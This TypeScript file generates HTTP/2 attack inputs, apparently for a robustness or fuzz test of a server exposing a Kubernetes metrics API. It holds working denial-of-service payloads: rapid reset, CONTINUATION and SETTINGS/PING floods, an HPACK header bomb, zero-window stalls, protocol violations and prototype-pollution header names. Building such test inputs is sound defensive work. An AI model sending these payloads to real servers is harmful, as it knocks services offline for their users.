// Pure: what an HTTP/2 connection can be sent to make its other end work, wait or remember.
import {
  flags,
  frame,
  frameTypes,
  literal,
  newestEntry,
  preface,
  requestBlock,
  settings,
  uint32,
} from './h2-frames.ts';
import type { Dice } from './raw-inputs.ts';

export interface Http2Attack {
  readonly kind: string;
  /** How many frames, or connections where the connection is the point. */
  readonly inputs: number;
  /** Written as fast as they are taken. */
  readonly chunks: Iterable<Buffer>;
  /** Do we read what comes? An attacker who does not makes answers pile up. */
  readonly reads: boolean;
}

type Headers = Readonly<Record<string, string>>;

const list = '/apis/metrics.k8s.io/v1beta1/pods';
const batch = 500;
/** What SETTINGS may say (RFC 9113, 6.5.2). */
const ids = { headerTableSize: 1, initialWindowSize: 4, maxFrameSize: 5, maxHeaderListSize: 6 } as const;

export function http2Attacks(dice: Dice, headers: Headers): readonly Http2Attack[] {
  return [
    rapidReset(headers),
    continuationFlood(headers),
    hugeTable(headers),
    headerBomb(headers),
    repeated('SETTINGS flood', 50_000, settings([ids.initialWindowSize, 65_535])),
    repeated('PING flood', 50_000, frame(frameTypes.ping, 0, 0, Buffer.alloc(8))),
    repeated('empty DATA flood', 20_000, frame(frameTypes.data, 0, 1)),
    repeated('PRIORITY flood', 20_000, frame(frameTypes.priority, 0, 3, Buffer.from([0, 0, 0, 0, 1]))),
    repeated('WINDOW_UPDATE overflow', 10, frame(frameTypes.windowUpdate, 0, 0, uint32(0x7f_ff_ff_ff))),
    windowZero(headers),
    brokenRules(headers),
    inheritedNames(headers),
    garbageFrames(dice),
    { kind: 'broken preface', inputs: 1, reads: true, chunks: [Buffer.from('PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n')] },
  ];
}

function begun(chunks: Iterable<Buffer>, ...pairs: readonly (readonly [number, number])[]): Iterable<Buffer> {
  return (function* () {
    yield Buffer.concat([preface, settings(...pairs)]);
    yield* chunks;
  })();
}

/** Client streams are odd; 1 is the first. */
const stream = (index: number): number => index * 2 + 1;

function request(index: number, headers: Headers, path = list): Buffer {
  return frame(frameTypes.headers, flags.endHeaders | flags.endStream, stream(index), requestBlock(path, headers));
}

function rapidReset(headers: Headers): Http2Attack {
  const inputs = 20_000;
  const pairs = function* (): Iterable<Buffer> {
    for (let at = 0; at < inputs; at += batch) {
      const frames: Buffer[] = [];
      for (let index = at; index < at + batch; index++) {
        frames.push(request(index, headers), frame(frameTypes.rstStream, 0, stream(index), uint32(8)));
      }
      yield Buffer.concat(frames);
    }
  };
  return { kind: 'rapid reset', inputs, reads: true, chunks: begun(pairs()) };
}

function continuationFlood(headers: Headers): Http2Attack {
  const inputs = 20_000;
  const piece = frame(frameTypes.continuation, 0, 1, literal('x-filler', 'v'.repeat(1000)));
  const chunks = function* (): Iterable<Buffer> {
    yield frame(frameTypes.headers, flags.endStream, 1, requestBlock(list, headers));
    for (let at = 0; at < inputs; at += batch) yield Buffer.concat(Array.from({ length: batch }, () => piece));
  };
  return { kind: 'CONTINUATION flood', inputs, reads: true, chunks: begun(chunks()) };
}

/** Entries that the other end must keep, under a table as large as can be said. */
function hugeTable(headers: Headers): Http2Attack {
  const inputs = 2_000;
  const chunks = function* (): Iterable<Buffer> {
    for (let index = 0; index < inputs; index++) {
      const entry = literal(`x-${index}`, 'v'.repeat(3000), true);
      const block = Buffer.concat([requestBlock(list, headers), entry]);
      yield frame(frameTypes.headers, flags.endHeaders | flags.endStream, stream(index), block);
    }
  };
  return {
    kind: 'huge header table',
    inputs,
    reads: true,
    chunks: begun(chunks(), [ids.headerTableSize, 0xff_ff_ff_ff]),
  };
}

/** One entry of 4,000 bytes, named 16,000 times by one byte each: 64 MB of headers in 20 KB. */
function headerBomb(headers: Headers): Http2Attack {
  const inputs = 50;
  const repeats = Buffer.concat(Array.from({ length: 12_000 }, () => newestEntry));
  const chunks = function* (): Iterable<Buffer> {
    for (let index = 0; index < inputs; index++) {
      const block = Buffer.concat([requestBlock(list, headers), literal('x-bomb', 'v'.repeat(3900), true), repeats]);
      yield frame(frameTypes.headers, flags.endHeaders | flags.endStream, stream(index), block);
    }
  };
  return { kind: 'header bomb', inputs, reads: true, chunks: begun(chunks()) };
}

function repeated(kind: string, inputs: number, one: Buffer): Http2Attack {
  const size = Math.min(inputs, batch);
  const chunks = function* (): Iterable<Buffer> {
    const many = Buffer.concat(Array.from({ length: size }, () => one));
    for (let at = 0; at < inputs; at += size) yield many;
  };
  return { kind, inputs, reads: false, chunks: begun(chunks()) };
}

/** Requests whose answers can never be sent. */
function windowZero(headers: Headers): Http2Attack {
  const inputs = 250;
  const requests = Buffer.concat(Array.from({ length: inputs }, (_, index) => request(index, headers)));
  return { kind: 'window 0', inputs, reads: true, chunks: begun([requests], [ids.initialWindowSize, 0]) };
}

/** Each on a good connection would end it. */
function brokenRules(headers: Headers): Http2Attack {
  const chunks = [
    request(0, headers, '/livez'),
    request(1, headers, '/\u0000'),
    frame(frameTypes.headers, flags.endHeaders | flags.endStream, 5, Buffer.from([0x82])),
    frame(
      frameTypes.headers,
      flags.endHeaders | flags.endStream,
      7,
      Buffer.concat([requestBlock(list), literal('Upper', 'x')]),
    ),
    frame(
      frameTypes.headers,
      flags.endHeaders | flags.endStream,
      9,
      Buffer.concat([requestBlock(list), literal('connection', 'x')]),
    ),
    frame(
      frameTypes.headers,
      flags.endHeaders | flags.endStream,
      11,
      Buffer.concat([requestBlock(list), literal(':path', '/again')]),
    ),
    frame(frameTypes.priority, 0, 13, Buffer.concat([uint32(13), Buffer.from([1])])),
    frame(frameTypes.headers, flags.endHeaders, 2, requestBlock(list)),
    frame(frameTypes.data, 0, 0, Buffer.from('on no stream')),
    frame(frameTypes.goaway, 0, 0, Buffer.alloc(8)),
  ];
  return { kind: 'broken rules', inputs: chunks.length, reads: true, chunks: begun(chunks) };
}

/** Names that every object of JavaScript has, as headers and as methods. */
function inheritedNames(headers: Headers): Http2Attack {
  const blocks = ['constructor', '__proto__', 'hasOwnProperty', 'toString', 'valueOf'].flatMap((name) => [
    Buffer.concat([requestBlock(list, headers), literal(name.toLowerCase(), 'x'), literal(name.toLowerCase(), 'y')]),
    requestBlock(list, headers, name),
  ]);
  const chunks = blocks.map((block, index) =>
    frame(frameTypes.headers, flags.endHeaders | flags.endStream, stream(index), block),
  );
  return { kind: 'inherited names', inputs: chunks.length, reads: true, chunks: begun(chunks) };
}

function garbageFrames(dice: Dice): Http2Attack {
  const inputs = 30;
  const chunks = Array.from({ length: inputs }, () => {
    const payload = Buffer.from(Array.from({ length: Math.floor(dice() * 200) }, () => Math.floor(dice() * 256)));
    return frame(Math.floor(dice() * 14), Math.floor(dice() * 256), Math.floor(dice() * 12), payload);
  });
  return { kind: 'garbage frames', inputs, reads: true, chunks: begun(chunks) };
}
